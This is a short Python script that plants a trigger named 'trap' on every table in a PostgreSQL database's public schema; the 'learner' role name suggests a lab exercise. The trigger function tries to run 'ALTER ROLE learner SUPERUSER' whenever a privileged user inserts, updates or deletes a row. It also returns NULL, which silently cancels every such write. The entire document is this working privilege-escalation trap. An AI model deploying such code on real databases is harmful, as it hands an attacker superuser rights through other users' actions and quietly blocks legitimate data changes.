"""Sets triggers and rules on every table, which answer for whoever reads or writes it."""

import os

import psycopg

URL = os.environ["DATABASE_URL"]

with psycopg.connect(URL, autocommit=True) as connection:
    connection.execute(
        "CREATE OR REPLACE FUNCTION trap() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN"
        " BEGIN EXECUTE 'ALTER ROLE learner SUPERUSER';"
        " RAISE WARNING 'GOT THROUGH: superuser'; EXCEPTION WHEN OTHERS THEN NULL; END;"
        " RETURN NULL; END $$"
    )
    for (table,) in connection.execute(
        "SELECT relname FROM pg_class WHERE relkind = 'r' AND relnamespace = 'public'::regnamespace"
    ).fetchall():
        connection.execute(f'DROP TRIGGER IF EXISTS trap ON "{table}"')
        connection.execute(
            f'CREATE TRIGGER trap BEFORE INSERT OR UPDATE OR DELETE ON "{table}"'
            " FOR EACH ROW EXECUTE FUNCTION trap()"
        )
